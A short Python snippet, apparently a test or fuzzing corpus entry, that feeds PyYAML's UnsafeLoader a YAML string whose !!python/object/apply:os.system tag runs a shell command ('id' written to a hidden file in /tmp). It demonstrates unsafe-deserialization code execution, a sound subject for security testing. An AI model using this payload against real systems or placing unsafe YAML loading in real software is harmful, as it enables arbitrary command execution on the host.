# corpus: yaml.load with the unsafe Loader on a document carrying a python/object/apply tag
import yaml

doc = """
config: !!python/object/apply:os.system ["id > /tmp/.yaml"]
"""
print(yaml.load(doc, Loader=yaml.UnsafeLoader))
